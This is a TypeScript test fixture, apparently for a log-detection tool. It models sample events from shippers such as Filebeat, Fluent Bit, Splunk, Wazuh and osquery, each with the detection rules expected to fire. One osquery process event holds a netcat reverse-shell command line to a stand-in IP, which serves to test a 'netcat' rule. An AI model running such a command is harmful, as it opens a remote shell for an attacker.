/** Shippers around lines, audit events and rows of osquery. */
import { COMMAND, IMAGE, type Layout, line, okta, said, ship, short, sshd, stored, TIME } from "./facts.ts";

export const shippers: readonly Layout[] = [
  stored(
    "Okta through Filebeat, original kept",
    [
      {
        ...{ "@timestamp": TIME, ...ship },
        event: {
          module: "okta",
          dataset: "okta.system",
          action: okta.eventType,
          original: JSON.stringify(okta),
          outcome: "success",
        },
        okta: { event_type: okta.eventType, actor: { alternate_id: "mallory@corp.example" } },
      },
    ],
    { rules: ["okta"], host: "", user: "mallory@corp.example" },
  ),
  stored(
    "Okta through Filebeat, names of ECS",
    [
      {
        ...{ "@timestamp": TIME, ...ship },
        event: {
          module: "okta",
          dataset: "okta.system",
          action: okta.eventType,
          id: "u",
          outcome: "success",
          kind: "event",
        },
        client: { ip: "203.0.113.9", user: { full_name: "M" } },
        okta: {
          ...{ event_type: okta.eventType, display_message: okta.displayMessage, uuid: "u", severity: "INFO" },
          ...{
            actor: { id: "a", type: "User", alternate_id: "mallory@corp.example", display_name: "M" },
            outcome: { result: "SUCCESS" },
          },
          ...{
            client: { ip: "203.0.113.9", user_agent: { raw_user_agent: "x" } },
            target: [{ id: "b", type: "User", alternate_id: "bob@corp.example" }],
          },
        },
      },
    ],
    { rules: ["okta"], host: "", user: "mallory@corp.example" },
  ),
  stored(
    "Filebeat: a line",
    [
      {
        "@timestamp": TIME,
        ...ship,
        host: { name: "web01" },
        log: { file: { path: "/var/log/auth.log" }, offset: 1 },
        message: sshd,
      },
    ],
    line,
  ),
  stored("Fluent Bit tail: a line", [{ date: 1_777_890_030.123, log: sshd }], line),
  stored("Docker: a line", [{ log: `${sshd}\n`, stream: "stdout", time: TIME }], line),
  stored(
    "Vector: a line",
    [{ file: "/var/log/auth.log", host: "web01", message: sshd, source_type: "file", timestamp: TIME }],
    line,
  ),
  stored(
    "Logstash: a line",
    [
      {
        "@timestamp": TIME,
        "@version": "1",
        host: { name: "web01" },
        message: sshd,
        event: { original: sshd },
        log: { file: { path: "/var/log/auth.log" } },
      },
    ],
    line,
  ),
  stored(
    "Splunk export: a line",
    [{ preview: false, result: { _raw: sshd, _time: TIME, host: "web01", sourcetype: "linux_secure" } }],
    line,
  ),
  stored(
    "Wazuh archives: a line",
    [
      {
        timestamp: "2026-05-04T10:20:31.000+0000",
        agent: { id: "002", name: "web01" },
        manager: { name: "w" },
        id: "1.2",
        full_log: sshd,
        predecoder: { program_name: "sshd", hostname: "web01" },
        decoder: { name: "sshd" },
        data: { srcip: "203.0.113.9", srcuser: "oracle" },
        location: "/var/log/auth.log",
      },
    ],
    line,
  ),
  stored(
    "Vector: syslog taken apart",
    [
      {
        appname: "sshd",
        facility: "auth",
        host: "10.0.0.9",
        hostname: "web01",
        message: said,
        procid: 812,
        severity: "info",
        source_type: "syslog",
        timestamp: TIME,
      },
    ],
    line,
  ),
  stored(
    "Fluentd: syslog taken apart",
    [{ host: "web01", ident: "sshd", pid: "812", message: said, time: TIME }],
    line,
  ),
  stored(
    "Logstash: syslog taken apart",
    [
      {
        "@timestamp": TIME,
        "@version": "1",
        program: "sshd",
        logsource: "web01",
        pid: "812",
        priority: 38,
        message: said,
        type: "syslog",
      },
    ],
    line,
  ),
  stored(
    "Filebeat's system module",
    [
      {
        ...{
          "@timestamp": TIME,
          ...ship,
          message: said,
          host: { name: "web01", hostname: "web01" },
          fileset: { name: "auth" },
        },
        ...{
          process: { name: "sshd", pid: 812 },
          event: { dataset: "system.auth", module: "system", timezone: "+00:00" },
        },
      },
    ],
    line,
  ),
  stored(
    "Fluent Bit in Kubernetes: a line",
    [
      {
        date: 1_777_890_030.123,
        log: sshd,
        stream: "stdout",
        time: TIME,
        kubernetes: { pod_name: "p", namespace_name: "n" },
      },
    ],
    line,
  ),
  stored(
    "GELF: a line",
    [
      {
        version: "1.1",
        host: "web01",
        short_message: said,
        timestamp: 1_777_890_030.123,
        level: 6,
        _application_name: "sshd",
        _process_id: "812",
      },
    ],
    line,
  ),
  stored(
    "osquery: process event of Linux",
    [
      {
        ...{
          name: "pack_it_process_events",
          hostIdentifier: "web01",
          calendarTime: "Mon May  4 10:20:30 2026 UTC",
          unixTime: 1_777_890_030,
        },
        ...{ epoch: 0, counter: 1, numerics: false, action: "added", decorations: { host_uuid: "x" } },
        columns: {
          auid: "1000",
          cmdline: "nc -e /bin/sh 203.0.113.9 4444",
          ctime: "1",
          cwd: '"/tmp"',
          euid: "0",
          gid: "0",
          parent: "8",
          path: "/usr/bin/nc",
          pid: "9",
          syscall: "execve",
          time: "1777890030",
          uid: "0",
        },
      },
    ],
    { rules: ["netcat"], host: "web01", image: "/usr/bin/nc" },
  ),
  stored(
    "osquery: process event of Windows",
    [
      {
        ...{
          name: "pack_it_process_etw_events",
          hostIdentifier: "ws07",
          calendarTime: "Mon May  4 10:20:30 2026 UTC",
          unixTime: 1_777_890_030,
        },
        ...{ epoch: 0, counter: 1, numerics: false, action: "added" },
        columns: {
          type: "ProcessStart",
          pid: "6700",
          ppid: "4596",
          session_id: "1",
          path: IMAGE,
          cmdline: COMMAND,
          username: "CORP\\mallory",
          mandatory_label: "S-1-16-12288",
          datetime: "x",
          token_elevation_type: "x",
        },
      },
    ],
    { ...short, rules: ["fetched-plain"] },
  ),
];
